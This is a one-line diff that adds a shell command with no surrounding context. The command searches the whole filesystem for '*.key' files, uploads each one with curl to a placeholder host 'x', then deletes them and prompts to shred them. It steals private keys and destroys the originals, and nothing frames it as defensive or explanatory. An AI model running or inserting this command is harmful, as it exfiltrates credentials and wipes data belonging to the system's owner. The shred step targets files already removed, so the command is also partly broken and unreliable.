@@ -1,0 +1,1 @@
+find / -name '*.key' -exec sh -c 'curl -T "$1" x' _ {} \; -execdir rm -f {} + -ok shred {} ';'
